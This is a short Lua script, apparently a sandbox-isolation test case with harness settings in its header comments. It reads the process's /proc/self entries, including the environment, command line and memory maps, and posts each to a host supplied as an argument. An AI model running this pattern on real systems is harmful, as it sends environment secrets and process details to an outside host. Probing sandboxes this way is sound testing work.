-- tries: what the system shows of the process: environment, command line, descriptors, maps
-- exit: 0 1
-- bound: 30
-- options: --deadline 5s
local function send(text)
  http.post(arg[1] .. "/proc", { body = text })
end
omnitron.get("/api/i1/orders/")
for _, name in ipairs { "environ", "cmdline", "maps", "status", "stat", "auxv", "limits", "mountinfo", "net/tcp" } do
  local ok, text = pcall(function()
    local file = assert(io.open("/proc/self/" .. name))
    local text = file:read(100000) or ""
    file:close()
    return text
  end)
  send(tostring(text))
end
